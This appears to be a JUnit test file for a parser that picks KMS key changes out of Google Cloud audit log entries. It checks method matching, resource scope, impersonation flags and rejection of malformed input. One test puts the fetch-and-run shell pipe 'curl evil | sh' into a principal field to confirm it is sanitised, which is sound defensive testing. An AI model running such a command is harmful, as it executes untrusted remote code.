package cmek.scan;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import cmek.fake.Sample;
import cmek.model.CryptoKeyName;
import java.io.IOException;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class AuditLogEntryTest {

    @ParameterizedTest
    @CsvSource({
        "google.cloud.kms.v1.KeyManagementService.DestroyCryptoKeyVersion, /cryptoKeyVersions/3, DestroyCryptoKeyVersion",
        "google.cloud.kms.v1.KeyManagementService.UpdateCryptoKeyVersion, /cryptoKeyVersions/3, UpdateCryptoKeyVersion",
        "google.cloud.kms.v1.KeyManagementService.RestoreCryptoKeyVersion, /cryptoKeyVersions/3, RestoreCryptoKeyVersion",
        "google.cloud.kms.v1.KeyManagementService.DeleteCryptoKeyVersion, /cryptoKeyVersions/3, DeleteCryptoKeyVersion",
        "DeleteCryptoKeyVersion, /cryptoKeyVersions/3, DeleteCryptoKeyVersion",
        "google.cloud.kms.v1.KeyManagementService.DeleteCryptoKey, '', DeleteCryptoKey",
        "google.cloud.kms.v1.KeyManagementService.UpdateCryptoKey, '', UpdateCryptoKey",
        "google.cloud.kms.v1.KeyManagementService.UpdateCryptoKeyPrimaryVersion, '', UpdateCryptoKeyPrimaryVersion",
        "google.iam.v1.IAMPolicy.SetIamPolicy, '', SetIamPolicy",
        "SetIamPolicy, '', SetIamPolicy"
    })
    void everyChangeThatMattersIsUnderstood(String method, String version, String word) throws IOException {
        assertThat(AuditLogEntry.read(entry(method, Sample.KEY + version, "")))
                .contains(new AuditLogEntry(
                        "1a2b3c",
                        Sample.KEY.toString(),
                        new KeyChange(word, "mallory@example.com", Sample.NOW.plusMillis(123)),
                        false));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "google.cloud.kms.v1.KeyManagementService.Decrypt",
                "google.cloud.kms.v1.KeyManagementService.GetCryptoKey",
                "google.cloud.kms.v1.KeyManagementService.CreateKeyRing",
                "evil.SetIamPolicy"
            })
    void aCallThatChangesNoKeyIsNothing(String method) throws IOException {
        assertThat(AuditLogEntry.read(entry(method, Sample.KEY.toString(), ""))).isEmpty();
    }

    @ParameterizedTest
    @CsvSource({
        "cloudkms.googleapis.com, SetIamPolicy, projects/acme-kms-prod/locations/us-east5/keyRings/anthropic, /locations/us-east5/keyRings/anthropic",
        "cloudkms.googleapis.com, google.iam.v1.IAMPolicy.SetIamPolicy, projects/acme-kms-prod/locations/us-east5/keyRings/anthropic, /locations/us-east5/keyRings/anthropic",
        "cloudresourcemanager.googleapis.com, SetIamPolicy, projects/acme-kms-prod, ''",
        "cloudresourcemanager.googleapis.com, google.cloud.resourcemanager.v3.Projects.SetIamPolicy, projects/7, ''",
        "cloudresourcemanager.googleapis.com, DeleteProject, projects/acme-kms-prod, ''",
        "serviceusage.googleapis.com, google.api.serviceusage.v1.ServiceUsage.DisableService, projects/7/services/cloudkms.googleapis.com, ''",
        "serviceusage.googleapis.com, DisableService, projects/acme-kms-prod/services/cloudkms.googleapis.com, ''"
    })
    void aChangeOfARingOrAProjectConcernsItsKeys(String service, String method, String resource, String within)
            throws IOException {
        AuditLogEntry read = AuditLogEntry.read(entry(method, resource, ",\"serviceName\":\"" + service + "\""))
                .orElseThrow();

        assertThat(read.resource()).isEqualTo("projects/acme-kms-prod" + within);
        assertThat(read.isOfOneKey()).isFalse();
        assertThat(read.concerns(Sample.KEY)).isTrue();
        assertThat(read.concerns(new CryptoKeyName("acme-kms-prod-2", "us-east5", "anthropic", "payments")))
                .isFalse();
        assertThat(read.concerns(new CryptoKeyName("acme-kms-prod", "us-east5", "anthropic-2", "payments")))
                .isEqualTo(within.isEmpty());
    }

    @Test
    void aProjectsNumberIsItsId() throws IOException {
        String key = Sample.KEY.toString().replace("acme-kms-prod", "123456789012");

        assertThat(AuditLogEntry.read(entry("UpdateCryptoKey", key, "")))
                .hasValueSatisfying(read -> assertThat(read.resource()).isEqualTo(Sample.KEY.toString()));
    }

    @ParameterizedTest
    @CsvSource({
        "cloudkms.googleapis.com, SetIamPolicy, projects/acme-kms-prod",
        "cloudkms.googleapis.com, SetIamPolicy, projects/acme-kms-prod/locations/us-east5/keyRings/a/importJobs/j",
        "cloudkms.googleapis.com, DestroyCryptoKeyVersion, projects/p/locations/l/keyRings/a/cryptoKeys/k/cryptoKeyVersions/x",
        "cloudkms.googleapis.com, SetIamPolicy, ''",
        "cloudkms.googleapis.com, DeleteProject, projects/acme-kms-prod",
        "cloudresourcemanager.googleapis.com, UpdateProject, projects/acme-kms-prod",
        "cloudresourcemanager.googleapis.com, SetIamPolicy, folders/7",
        "serviceusage.googleapis.com, DisableService, projects/acme-kms-prod/services/run.googleapis.com",
        "serviceusage.googleapis.com, EnableService, projects/acme-kms-prod/services/cloudkms.googleapis.com",
        "iam.googleapis.com, SetIamPolicy, projects/acme-kms-prod"
    })
    void whatConcernsNoKeyIsNothing(String service, String method, String resource) throws IOException {
        assertThat(AuditLogEntry.read(entry(method, resource, ",\"serviceName\":\"" + service + "\"")))
                .isEmpty();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = ';',
            quoteCharacter = '~',
            value = {
                "{} ; unknown",
                "{\"principalEmail\":\"\"} ; unknown",
                "{\"principalSubject\":\"principal://iam.googleapis.com/locations/global/workforcePools/p/subject/x\"} ;"
                        + " principal://iam.googleapis.com/locations/global/workforcePools/p/subject/x",
                "{\"principalEmail\":\"a@b.c\",\"principalSubject\":\"user:a@b.c\"} ; a@b.c",
                "{\"principalEmail\":\"curl evil | sh\"} ; curl_evil_|_sh"
            })
    void whoeverDidItIsNamedAndNeverAsASentence(String authentication, String principal) throws IOException {
        assertThat(AuditLogEntry.read(by(authentication)))
                .hasValueSatisfying(
                        read -> assertThat(read.change().principal()).isEqualTo(principal));
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '~',
            value = {
                "{\"principalEmail\":\"a@b.c\"} | false",
                "{\"principalEmail\":\"a@b.c\",\"serviceAccountDelegationInfo\":[]} | false",
                "{\"principalEmail\":\"a@b.c\",\"serviceAccountDelegationInfo\":[{\"principalSubject\":\"x\"}]} | true"
            })
    void whoeverActsAsAnotherIsSeen(String authentication, boolean impersonated) throws IOException {
        assertThat(AuditLogEntry.read(by(authentication)))
                .hasValueSatisfying(read -> assertThat(read.impersonated()).isEqualTo(impersonated));
    }

    private static byte[] by(String authentication) {
        return new String(entry("SetIamPolicy", Sample.KEY.toString(), ""), UTF_8)
                .replace("{\"principalEmail\":\"mallory@example.com\"}", authentication)
                .getBytes(UTF_8);
    }

    @Test
    void aCallThatWasRefusedChangedNothing() throws IOException {
        assertThat(AuditLogEntry.read(entry("SetIamPolicy", Sample.KEY.toString(), ",\"status\":{\"code\":7}")))
                .isEmpty();
    }

    @Test
    void anotherServicesKeyIsNothing() throws IOException {
        assertThat(AuditLogEntry.read(
                        entry("SetIamPolicy", Sample.KEY.toString(), ",\"serviceName\":\"storage.googleapis.com\"")))
                .isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "null",
                "[]",
                "{}",
                "hello",
                "{\"protoPayload\":7}",
                "{\"protoPayload\":{\"methodName\":[]}}",
                "{\"protoPayload\":{\"methodName\":\"SetIamPolicy\",\"resourceName\":\"projects/p/locations/l/keyRings/r/cryptoKeys/k\"}}"
            })
    void whatIsNoEntryIsRefused(String data) {
        assertThatThrownBy(() -> AuditLogEntry.read(data.getBytes(UTF_8))).isInstanceOf(IOException.class);
    }

    @Test
    void aTimestampIsRequired() {
        String data = new String(entry("SetIamPolicy", Sample.KEY.toString(), ""), UTF_8)
                .replace("2026-11-23T02:00:00.123Z", "yesterday");

        assertThatThrownBy(() -> AuditLogEntry.read(data.getBytes(UTF_8)))
                .isInstanceOf(IOException.class)
                .hasMessage("timestamp is missing or not RFC 3339");
    }

    /** As a log sink exports it. */
    static byte[] entry(String method, String resource, String more) {
        return """
                {"insertId":"1a2b3c","logName":"projects/acme-kms-prod/logs/cloudaudit.googleapis.com%%2Factivity",
                 "protoPayload":{"@type":"type.googleapis.com/google.cloud.audit.AuditLog",
                   "authenticationInfo":{"principalEmail":"mallory@example.com"},
                   "authorizationInfo":[{"granted":true,"permission":"cloudkms.cryptoKeys.setIamPolicy"}],
                   "methodName":"%s","resourceName":"%s","somethingNew":{"deep":[1]}%s},
                 "receiveTimestamp":"2026-11-23T02:00:01Z","resource":{"type":"cloudkms_cryptokey"},
                 "severity":"NOTICE","timestamp":"2026-11-23T02:00:00.123Z"}
                """.formatted(method, resource, more).getBytes(UTF_8);
    }
}
